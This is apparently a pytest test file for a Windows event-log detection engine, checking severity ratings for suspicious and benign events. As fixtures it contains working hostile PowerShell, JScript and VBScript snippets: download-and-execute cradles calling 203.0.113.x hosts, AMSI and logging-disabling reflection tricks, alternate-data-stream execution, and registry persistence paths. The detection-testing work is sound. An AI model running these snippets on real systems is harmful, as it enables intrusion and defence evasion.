# ruff: noqa: E501 - events are long
"""What a second pair of eyes found: pieces with a mark, names and letters that are bytes, scripts by
what they do, private fields of the engine, streams; each beside the work that looks like it.
"""

from __future__ import annotations

import base64
import random

import pytest

from tests.content import payloads
from tests.evtx.events import POWERSHELL, classic, event, indicators, judged, sysmon
from triage.events.reader import Raw

R = random.Random(20240511)
CODE = payloads.shellcode(R) + R.randbytes(5000)
PE = payloads.pe(R)
WINDOWS = "C:\\Windows\\System32\\"
PWSH = WINDOWS + "WindowsPowerShell\\v1.0\\powershell.exe"
KMS = "Key Management Service"
RANK = ["low", "medium", "high", "critical"]


def coded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def shuffled(pieces: list[str]) -> list[tuple[int, str]]:
    numbered = list(enumerate(pieces))
    random.Random(5).shuffle(numbered)
    return numbered


def block(script: str) -> Raw:
    return event(POWERSHELL, 4104, {"ScriptBlockText": script, "ScriptBlockId": "b"})


def worst(*raws: Raw) -> str:
    found = indicators(judged(*raws)).values()
    return max((s for s in found if s in RANK), key=RANK.index, default="none")


@pytest.mark.parametrize(
    "written",
    ["{n:04d}:{piece}", "{piece}|{n}", "[{n}] {piece}", "part {n} of 99 {piece}", '{{"s":{n},"d":"{piece}"}}'],
)  # fmt: skip
@pytest.mark.parametrize("provider", ["Acme", KMS])
def test_pieces_in_any_order_whose_marks_say_which(written: str, provider: str) -> None:
    whole = coded(PE)
    raws = [
        classic(provider, 9, written.format(n=n, piece=piece), record=at + 1)
        for at, (n, piece) in enumerate(shuffled(cut(whole, 600)))
    ]
    assert indicators(judged(*raws))["event-split-payload"] == "critical"


def test_short_pieces_with_marks() -> None:
    pieces = enumerate(cut(coded(CODE[:2500]), 60))
    raws = [classic("Acme", 4, f"{n:03d}:{piece}", record=n + 1) for n, piece in pieces]
    assert "event-split-payload" in indicators(judged(*raws))


def test_pieces_of_a_foreign_source_from_the_last_to_the_first() -> None:
    pieces = reversed(cut(CODE[:3000].hex(), 200))
    raws = [classic("Acme", 4, piece, record=at + 1) for at, piece in enumerate(pieces)]
    assert "event-split-payload" in indicators(judged(*raws))


@pytest.mark.parametrize(
    "written",
    ["Block {n}: hash={hex}", "request {n} token {coded} ok", '{{"n":{n},"k":"{coded}"}}'],
)
def test_tokens_and_digests_with_marks_are_no_pieces(written: str) -> None:
    rng = random.Random(9)
    raws = [
        classic(
            "Contoso Backup", 4,
            written.format(n=n, hex=rng.randbytes(64).hex(), coded=coded(rng.randbytes(90))),
            record=n + 1,
        )
        for n in range(30)
    ]  # fmt: skip
    assert worst(*raws) == "none"


def test_a_program_in_the_name_of_a_value() -> None:
    assert worst(event("Acme-Svc", 4, {coded(PE)[:4000]: "1"})) == "critical"
    long = "ThisIsTheNameOfAFieldThatSomebodyWroteWithoutThinkingOfItsLengthAndThatGoesOnForVeryMuchLongerThanOthers"
    assert worst(event("Contoso-Agent", 4, {long: "1"})) == "none"


def test_bytes_that_were_written_as_letters() -> None:
    wide = bytes(byte or 1 for byte in CODE[:3000]).decode("utf-16-le", "replace")
    assert RANK.index(worst(classic("Acme", 4, wide))) >= 2
    assert worst(classic("Acme", 4, bytes(b ^ 0xA7 for b in PE).decode("latin-1"))) == "critical"
    assert (
        worst(classic("App", 4, "Служба успешно запущена; параметры: (A=1; B=2). " * 6)) == "none"
    )
    assert worst(classic("App", 4, "✔ OK " + "─" * 60 + " ✘ Failed " + "═" * 60)) == "none"


@pytest.mark.parametrize(
    "script",
    [
        "$c=New-Object Net.WebClient;$d=$c.DownloadData('http://203.0.113.9/x.dll');[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)",
        "var a=new ActiveXObject('MSXML2.XMLHTTP');a.open('GET','http://203.0.113.8/x',false);a.send();eval(a.responseText);",
        'Set w=CreateObject("WScript.Shell"):w.Run "powershell -w hidden -c iex((gp HKCU:\\x).y)",0,False:Set w=Nothing:x=(1)',
    ],
)
def test_a_short_script_that_does_harm(script: str) -> None:
    assert worst(classic("Acme", 4, script)) == "high"


PLAIN = [
    "Running script:\r\n$svc = Get-Service -Name 'MyApp' -ErrorAction SilentlyContinue\r\nif ($svc -ne $null) { Stop-Service $svc; $svc.WaitForStatus('Stopped') }\r\nCopy-Item -Path $src -Destination 'C:\\Apps\\MyApp' -Recurse -Force\r\nStart-Service $svc\r\n",
    "$s = Get-Service; $s | Where-Object { $_.Status -eq 'Running' } | ForEach-Object { $_.Name } ; ($s).Count",
    "Validation of viewstate failed; function f(a){return a.b(c)}; (see line 4) var x = document.getElementById('y');",
    "@echo off\r\nnet use H: \\\\fs01\\home /persistent:yes\r\nif errorlevel 1 (echo failed >> %TEMP%\\l.txt)\r\nexit /b %errorlevel%\r\nrem set x=1 (ok)\r\nset y=2",
]


@pytest.mark.parametrize("script", PLAIN)
def test_an_agents_record_of_a_plain_script_is_low(script: str) -> None:
    assert worst(classic("Contoso Agent", 4, script)) in ("low", "none")


def test_a_plain_script_where_nothing_else_is_written_is_not() -> None:
    assert worst(classic(KMS, 4, PLAIN[1], channel=KMS)) == "high"


@pytest.mark.parametrize(
    "script",
    [
        "$g=[Ref].Assembly.GetTypes()|?{$_.Name -like '*iUtils'};$f=$g.GetFields('NonPublic,Static')|?{$_.Name -like '*Context'};[IntPtr]$p=$f.GetValue($null);[Runtime.InteropServices.Marshal]::Copy($buf,0,$p,1)",
        "$u=[PSObject].Assembly.GetType($n);$u.GetField($k,40).SetValue($null,$true)",
        "[ScriptBlock].\"GetFiel`d\"('signatures','N'+'onPublic,Static').SetValue($null,(New-Object Collections.Generic.HashSet[string]))",
        "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)",
        "$g=[ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static').GetValue($null);$g['ScriptBlockLogging']['EnableScriptBlockLogging']=0",
    ],
)
def test_private_fields_of_the_engine(script: str) -> None:
    assert indicators(judged(block(script)))["event-script-bypass"] == "high"


@pytest.mark.parametrize(
    "script",
    [
        "$flags=[Reflection.BindingFlags]'Instance,NonPublic';$p=$SessionState.GetType().GetProperty('Internal',$flags).GetValue($SessionState,$null);$Module.GetType().GetField('_x',$flags);$o.SetValue($x)",
        "$pi=[Windows.Forms.DataGridView].GetProperty('DoubleBuffered',[Reflection.BindingFlags]'Instance,NonPublic');$pi.SetValue($grid,$true,$null)",
        "$t='System.Management.Automation.PSCredential';$c=New-Object $t('u',$p);$form.GetType().GetField('grid').SetValue($form,$c)",
    ],
)
def test_private_members_of_other_things(script: str) -> None:
    assert worst(block(script)) == "none"


@pytest.mark.parametrize(
    "script",
    [
        "$d=Get-Content -Path C:\\ProgramData\\log.txt -Stream cfg -Raw;& ([scriptblock]::Create($d))",
        "gc -Path $env:APPDATA\\d.txt -Stream x | iex",
        "iex (gc C:\\Windows\\Temp\\a.log:b -Raw)",
        "iex ([IO.File]::ReadAllText('C:\\ProgramData\\a b.txt:s'))",
    ],
)
def test_a_script_that_runs_a_stream(script: str) -> None:
    assert indicators(judged(block(script)))["event-script-store"] == "high"
    start = sysmon(1, Image=PWSH, CommandLine=f'powershell -c "{script}"', ParentImage=PWSH)
    assert indicators(judged(start))["event-command-store"] == "high"


@pytest.mark.parametrize(
    "script",
    [
        "gci C:\\Tools -Recurse|%{Get-Content $_.FullName -Stream Zone.Identifier -ea 0};Unblock-File C:\\Tools\\*;Invoke-Expression $cmd",
        "Get-Content C:\\logs\\app.log | Select-String 'error: x'; Write-Host \"Time: $t\"; iex \"& 'C:\\x.exe'\"",
        '$cfg=Get-Content "$PSScriptRoot\\config.ps1" -Raw; Invoke-Expression $cfg',
        "$p=[Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($c.Password)); & net use X: \\\\srv\\s $p",
    ],
)
def test_scripts_that_read_files(script: str) -> None:
    assert worst(block(script)) == "none"


def test_a_script_kept_as_a_secret_and_run() -> None:
    script = "$s=ConvertTo-SecureString $d -Key $k;iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))"
    assert worst(block(script)) == "high"


@pytest.mark.parametrize(
    ("source", "start", "severity"),
    [
        ("svchost.exe", "0x0000023A1B2C0000", "medium"),
        ("RuntimeBroker.exe", "0x219A3C30000", "medium"),
        ("dwm.exe", "0xFFFFF961A2B0C000", "low"),
        ("csrss.exe", "0x0000023A1B2C0000", "low"),
        ("Taskmgr.exe", "0x7ffa0000", "low"),
    ],
)
def test_threads_that_programs_of_windows_start(source: str, start: str, severity: str) -> None:
    raw = sysmon(
        8, SourceImage=WINDOWS + source, TargetImage=WINDOWS + "spoolsv.exe", StartAddress=start,
        StartModule="-", StartFunction="-",
    )  # fmt: skip
    assert indicators(judged(raw)) == {"event-remote-thread": severity}


@pytest.mark.parametrize(
    ("image", "answer", "severity"),
    [
        (PWSH, coded(CODE[:150]), "medium"),
        (WINDOWS + "rundll32.exe", CODE[:100].hex(), "medium"),
        ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", coded(CODE[:150]), "low"),
        (PWSH, "v=DKIM1; k=rsa; p=" + coded(CODE[:150]), "low"),
        (PWSH, "google-site-verification=" + coded(CODE[:32]), "low"),
        (PWSH, "v=spf1 include:spf.protection.outlook.com -all", "low"),
    ],
)
def test_texts_of_dns(image: str, answer: str, severity: str) -> None:
    raw = sysmon(22, Image=image, QueryName="a.example", QueryResults=f"type:  16 {answer};")
    assert indicators(judged(raw)) == {"event-dns-text": severity}


def test_crashes() -> None:
    frames = "Application: {}\nException Info: System.BadImageFormatException\n   at System.Reflection.{}\n"
    loaded = frames.format("dllhost.exe", "RuntimeAssembly.nLoadImage(Byte[], Byte[])")
    assert worst(classic(".NET Runtime", 1026, loaded)) == "medium"
    file = frames.format("MSBuild.exe", "Assembly.LoadFrom(System.String)")
    assert worst(classic(".NET Runtime", 1026, file)) == "none"
    values = ("", "0", "BEX64", "n", "0", "svchost.exe_Themes", "10", "a", "unknown", "0")
    assert worst(classic("Windows Error Reporting", 1001, *values)) == "medium"
    told = judged(classic("Windows Error Reporting", 1001, *values)).subjects[0]
    assert dict(told.facts)["image"] == "svchost.exe"


def test_a_service_may_write_its_log_where_it_likes() -> None:
    def service(path: str) -> Raw:
        data = {"ServiceName": "x", "ImagePath": path, "AccountName": "LocalSystem"}
        return event("Service Control Manager", 7045, data, channel="System")

    program = "C:\\Windows\\System32\\DriverStore\\FileRepository\\nv.inf_amd64_2f\\NVDisplay.Container.exe"
    assert worst(service(f"{program} -s nv -f C:\\ProgramData\\NVIDIA\\nv.log -l 3")) == "none"
    assert worst(service(f"{program} -s nv -d C:\\ProgramData\\NVIDIA\\x.dll")) == "medium"
    assert worst(service("C:\\ProgramData\\nv\\nv.log")) == "medium"


@pytest.mark.parametrize(
    ("provider", "number"),
    [
        (".NET Runtime", 1026), ("Application Error", 1000), ("Windows Error Reporting", 1001),
        ("MSSQLSERVER", 15457), ("MsiInstaller", 1040), ("PowerShell", 600),
        ("Service Control Manager", 7036),
    ],
)  # fmt: skip
def test_bytes_in_an_event_that_is_read_for_something_else(provider: str, number: int) -> None:
    """Anybody may write any record of a classic source."""
    raw = classic(provider, number, "a", "b", "c", "d", binary=CODE.hex().upper())
    assert indicators(judged(raw))["event-stored-payload"] == "critical"
    name = "Spooler/4".encode("utf-16-le").hex().upper()
    assert worst(classic(provider, number, "a", "b", "c", "d", binary=name)) == "none"


@pytest.mark.parametrize(
    ("key", "data", "severity"),
    [
        ("HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\X\\DllName", "C:\\Users\\Public\\t.dll", "medium"),
        ("HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\X\\DllName", "C:\\Windows\\System32\\w32time.dll", "none"),
        ("HKLM\\System\\CurrentControlSet\\Services\\DNS\\Parameters\\ServerLevelPluginDll", "\\\\203.0.113.4\\s\\d.dll", "medium"),
        ("HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\AlternateShell", "C:\\ProgramData\\a.exe", "medium"),
        ("HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\AlternateShell", "C:\\Program Files\\Acme\\a.exe", "none"),
        ("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Drivers32\\msacm.x", "C:\\Users\\u\\AppData\\Local\\Acme\\a.exe", "medium"),
        ("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Drivers32\\msacm.x", "C:\\Users\\u\\AppData\\Local\\Acme\\a.exe", "none"),
    ],
)  # fmt: skip
def test_every_place_of_the_registry_that_runs_something(
    key: str, data: str, severity: str
) -> None:
    raw = sysmon(
        13, EventType="SetValue", Image=WINDOWS + "reg.exe", TargetObject=key, Details=data
    )
    assert worst(raw) == severity


@pytest.mark.parametrize(
    "script",
    [
        "[System.Reflection.Assembly]::('Lo'+'ad').Invoke($b)",
        "$l=[Reflection.Assembly].GetMethods()|?{$_.Name -eq 'Load' -and $_.GetParameters().Count -eq 1};$l[0].Invoke($null,@(,$raw))",
    ],
)
def test_roundabout_loads(script: str) -> None:
    assert worst(block(script)) == "high"


def test_who_writes_bytes_into_a_log() -> None:
    written = "[Diagnostics.EventLog]::WriteEntry('Acme','m',4,1423,0,{})"
    assert worst(block(written.format("[IO.File]::ReadAllBytes('C:\\x.bin')"))) == "high"
    assert worst(block(written.format("$b"))) == "high"
    assert worst(block("[Diagnostics.EventLog]::WriteEntry('Acme','started',4,100)")) == "none"


def test_packages_from_the_network() -> None:
    def begun(source: str) -> Raw:
        return classic("MsiInstaller", 1040, source, "4444")

    assert worst(begun("http://203.0.113.2/a.msi")) == "medium"
    assert worst(begun("https://download.microsoft.com/a.msi")) == "none"
    assert worst(begun("C:\\Windows\\ccmcache\\1\\a.msi")) == "none"
    assert worst(begun("\\\\contoso.example\\NETLOGON\\a.msi")) == "none"


def test_a_driver_that_was_refused() -> None:
    def refused(path: str) -> Raw:
        data = {"FileNameBuffer": path, "ProcessNameBuffer": ""}
        return event("Microsoft-Windows-CodeIntegrity", 3001, data)

    user = "\\Device\\HarddiskVolume3\\Users\\u\\AppData\\Local\\Temp\\"
    assert worst(refused(user + "d.sys")) == "medium"
    assert worst(refused(user + "d.dll")) == "low"


def test_scripts_of_a_policy_of_the_domain() -> None:
    key = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Group Policy\\Scripts\\Startup\\0\\0\\Script"

    def written(data: str, image: str = WINDOWS + "svchost.exe") -> Raw:
        return sysmon(13, EventType="SetValue", Image=image, TargetObject=key, Details=data)

    policy = "\\\\corp.example\\SysVol\\corp.example\\Policies\\{1}\\Machine\\map.cmd"
    assert worst(written(policy)) == "none"
    assert worst(written("\\\\203.0.113.4\\s\\map.cmd")) == "medium"
    # whoever else writes there may have named its server like a domain
    assert worst(written(policy, WINDOWS + "reg.exe")) == "medium"
    assert worst(written(policy, "C:\\Users\\Public\\svchost.exe")) in ("medium", "high")
